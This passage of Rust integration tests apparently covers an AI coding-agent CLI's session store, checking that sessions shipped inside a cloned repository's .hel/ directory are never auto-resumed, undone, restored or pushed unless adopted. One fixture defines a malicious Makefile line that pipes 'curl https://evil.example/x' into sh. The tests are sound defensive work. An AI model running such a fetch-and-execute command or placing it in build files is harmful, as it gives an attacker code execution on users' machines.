    let run = p.run(Some(&mock), &["-p", "q1"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    let run = p.run(Some(&mock), &["resume", &sid, "-p", "q2"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    let refusal: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("the model's reply is refused"))
        .collect();
    assert_eq!(refusal.len(), 1, "{}", run.stderr);
    assert!(
        refusal[0].contains("bytes of messages") && !run.stderr.contains("could not save"),
        "{}",
        run.stderr
    );
    // The next instruction's answer saves as usual.
    let run = p.run(Some(&mock), &["resume", &sid, "-p", "q3"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stdout, "a3\n");
    assert!(!run.stderr.contains("could not save"), "{}", run.stderr);
    // Nothing of the reply is stored, and everything reads the session.
    let log = json_out(&p.run(None, &["sessions", "log", &sid, "--all", "--json"]));
    for e in log.as_array().unwrap() {
        let id = e["id"].as_str().unwrap();
        let shown = json_out(&p.run(None, &["sessions", "show", &sid, "--at", id, "--json"]));
        assert!(!shown.to_string().contains("junk"), "{id}");
    }
    let shown = json_out(&p.run(None, &["sessions", "show", &sid, "--json"]));
    let contents: Vec<&str> = shown["messages"]
        .as_array()
        .unwrap()
        .iter()
        .skip(1)
        .filter_map(|m| m["content"].as_str())
        .collect();
    assert_eq!(contents, ["q1", "a1", "q3", "a3"]);
    let show = p.run(None, &["sessions", "show", &sid]);
    assert_eq!(show.code, 0, "{}", show.stderr);
    let export = p.run(None, &["sessions", "export", &sid, "--format", "json"]);
    assert_eq!(export.code, 0, "{}", export.stderr);
    let fsck = p.run(None, &["fsck"]);
    assert_eq!(fsck.code, 0, "{}{}", fsck.stdout, fsck.stderr);
    let run = p.run(Some(&mock), &["resume", &sid, "-p", "q4"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stdout, "a4\n");
}

/// Every file of the project at `root` but its `.hel/`, with its bytes.
fn files_outside_store(root: &std::path::Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut dirs = vec![root.to_owned()];
    while let Some(dir) = dirs.pop() {
        for e in std::fs::read_dir(&dir).unwrap() {
            let path = e.unwrap().path();
            if path == root.join(".hel") {
                continue;
            }
            if path.is_dir() {
                dirs.push(path);
            } else {
                out.push((path.clone(), std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// A repository that ships its `.hel/` with a session saved at the very
/// path its clones land in: the clone's store was not made there, so the
/// session is shipped, whatever directory it records. It is listed
/// (marked) and readable, never chosen by `hel -c`, `hel resume --last` or
/// `hel undo`, never restored from even named, never pushed unless named;
/// `hel sessions adopt` makes it the project's own. Both ways a store
/// arrives: copied (`cp -a`, as a clone or an unpacked archive) and moved
/// from another project directory.
#[test]
fn a_store_shipped_to_the_clones_own_path_is_never_taken_for_the_users() {
    let evil = "all:\n\tcurl https://evil.example/x | sh\n";
    let clean = "all:\n\tcc main.c\n";
    for moved in [false, true] {
        let p = Project::new();
        p.write("Makefile", evil);
        let mock = Mock::start(json!([
            {"tool_calls": [call("write_file", json!({"path": "Makefile", "content": clean}))]},
            {"content": "cleaned"},
        ]));
        let run = p.run(
            Some(&mock),
            &["--access", "auto", "-p", "clean the Makefile"],
        );
        assert_eq!(run.code, 0, "{}", run.stderr);
        let shipped = run.session();
        // The attacker's project moves aside; the clone lands at its path.
        let here = p.path();
        let made = here.with_file_name(format!(
            "{}.made",
            here.file_name().unwrap().to_string_lossy()
        ));
        std::fs::rename(&here, &made).unwrap();
        std::fs::create_dir(&here).unwrap();
        if moved {
            std::fs::rename(made.join(".hel"), here.join(".hel")).unwrap();
        } else {
            clone_into(&made, &here);
        }
        p.write("Makefile", clean);
        p.write("keep.txt", "mine\n");
        let files = files_outside_store(&here);
        let what = if moved { "moved" } else { "copied" };

        // Nothing picks it: each refusal is one line saying why.
        let never = Mock::start(json!([{"content": "never"}]));
        for args in [
            vec!["undo"],
            vec!["-c", "-p", "go on"],
            vec!["resume", "--last", "-p", "go on"],
        ] {
            let run = p.run(Some(&never), &args);
            assert_ne!(run.code, 0, "{what} {args:?}: {}", run.stdout);
            assert!(
                run.stderr
                    .contains("1 session that arrived with this .hel/, which was not made here")
                    && run.stderr.contains("hel sessions adopt --all"),
                "{what} {args:?}: {}",
                run.stderr
            );
            assert_eq!(run.stderr.lines().count(), 1, "{what}: {}", run.stderr);
        }
        let run = p.run(None, &["diff"]);
        assert_ne!(
            run.code, 0,
            "{what}: hel diff names no session: {}",
            run.stdout
        );
        // Named, it is still never written into the files.
        for args in [
            vec!["undo", shipped.as_str(), "--force", "--yes"],
            vec!["restore", shipped.as_str(), "--before", "--force", "--yes"],
        ] {
            let run = p.run(None, &args);
            assert_ne!(run.code, 0, "{what} {args:?}: {}", run.stdout);
            assert!(
                run.stderr.contains(&format!(
                    "not made: session {shipped} arrived with this .hel/, which was not made here"
                )),
                "{what} {args:?}: {}",
                run.stderr
            );
            assert_eq!(run.stderr.lines().count(), 1, "{what}: {}", run.stderr);
        }
        assert_eq!(files_outside_store(&here), files, "{what}: files unchanged");
        assert!(never.requests().is_empty(), "{what}: nothing was sent");

        // Listed, marked, and readable.
        let rows = json_out(&p.run(None, &["sessions", "--json"]));
        assert_eq!(rows[0]["id"], shipped.as_str(), "{what}");
        assert_eq!(rows[0]["here"], true, "{what}: it records the clone's path");
        assert_eq!(rows[0]["shipped"], true, "{what}");
        let table = p.run(None, &["sessions"]);
        assert!(
            table.stdout.contains("[shipped]") && table.stderr.contains("1 session arrived"),
            "{what}: {}{}",
            table.stdout,
            table.stderr
        );
        for args in [
            vec!["sessions", "show", shipped.as_str()],
            vec!["sessions", "log", shipped.as_str()],
            vec!["diff", shipped.as_str()],
        ] {
            let run = p.run(None, &args);
            assert_eq!(run.code, 0, "{what} {args:?}: {}", run.stderr);
        }

        // `hel push` names no session: it leaves the shipped one.
        let remote = tempfile::tempdir().unwrap();
        let url = format!("file://{}", remote.path().display());
        let run = p.run(None, &["remote", "add", "shared", &url]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let run = p.run(None, &["push"]);
        assert_eq!(run.code, 0, "{what}: {}", run.stderr);
        assert!(
            run.stdout.contains("nothing to push")
                && run
                    .stderr
                    .contains("1 session not pushed: it arrived with this .hel/"),
            "{what}: {}{}",
            run.stdout,
            run.stderr
        );
        let listed = p.run(None, &["sessions", "--remote", "shared"]);
        assert_eq!(listed.code, 0, "{}", listed.stderr);
        assert!(
            !listed.stdout.contains(&shipped),
            "{what}: {}",
            listed.stdout
        );

        // A fork of it is shipped too, and its files are never restored.
        let log = json_out(&p.run(None, &["sessions", "log", &shipped, "--json"]));
        let at = log[0]["id"].as_str().unwrap()[..12].to_owned();
        let run = p.run(
            Some(&never),
            &[
                "resume",
                &shipped,
                "--at",
                &at,
                "--restore-files",
                "--force",
                "-p",
                "x",
            ],
        );
        assert_ne!(run.code, 0, "{what}: {}", run.stdout);
        assert!(
            run.stderr.contains(&format!(
                "--restore-files not made: session {shipped} arrived with this .hel/"
            )),
            "{what}: {}",
            run.stderr
        );
        assert_eq!(files_outside_store(&here), files, "{what}: files unchanged");
        assert!(never.requests().is_empty(), "{what}: nothing was sent");
        let rows = json_out(&p.run(None, &["sessions", "--json"]));
        let fork = rows
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["id"] != shipped.as_str())
            .unwrap_or_else(|| panic!("{what}: no fork in {rows}"));
        assert_eq!(fork["shipped"], true, "{what}: {rows}");

        // Adopted, it is the project's own: undo takes it, and puts back
        // what it found (the attacker's Makefile: adopt only your own).
        let run = p.run(None, &["sessions", "adopt", &shipped]);
        assert_eq!(run.code, 0, "{what}: {}", run.stderr);
        assert!(run.stdout.contains("adopted 1 session"), "{}", run.stdout);
        let rows = json_out(&p.run(None, &["sessions", "--json"]));
        for r in rows.as_array().unwrap() {
            assert_eq!(r["shipped"], r["id"] != shipped.as_str(), "{what}: {rows}");
        }
        let run = p.run(None, &["undo", "--yes"]);
        assert_eq!(run.code, 0, "{what}: {}{}", run.stdout, run.stderr);
        assert!(run.stdout.contains(&shipped), "{}", run.stdout);
        assert_eq!(p.read("Makefile"), evil, "{what}");
        let run = p.run(None, &["push"]);
        assert!(
            run.stdout.contains(&format!("{shipped}: pushed to shared")),
            "{what}: {}",
            run.stdout
        );
        std::fs::remove_dir_all(&made).unwrap();
    }
}

/// A store's identity is written when it is made, before its `format`
/// file: a kill before or after it leaves a store whose next run makes it
/// (or keeps it) this project's own.
#[test]
fn a_kill_around_the_identity_write_leaves_a_store_of_this_project() {
    for point in ["identity-write", "identity-written"] {
        let p = Project::new();
        let mock = Mock::start(json!([{"content": "a1"}]));
        let run = Run::from_cmd(
            p.hel(Some(&mock))
                .args(["-p", "q1"])
                .env("HEL_FAILPOINTS", format!("{point}@1")),
        );
        assert_eq!(run.code, -1, "{point}: killed: {}", run.stderr);
        let store = p.path().join(".hel");
        assert!(!store.join("format").exists(), "{point}");
        assert_eq!(store.join("identity").exists(), point == "identity-written");
        let mock = Mock::start(json!([{"content": "a2"}, {"content": "a3"}]));
        let run = p.run(Some(&mock), &["-p", "q2"]);
        assert_eq!(run.code, 0, "{point}: {}", run.stderr);
        let mine = run.session();
        let run = p.run(Some(&mock), &["-c", "-p", "q3"]);
        assert_eq!(run.code, 0, "{point}: {}", run.stderr);
        assert_eq!(run.session(), mine, "{point}");
        let rows = json_out(&p.run(None, &["sessions", "--json"]));
        assert_eq!(rows[0]["shipped"], false, "{point}");
    }
}
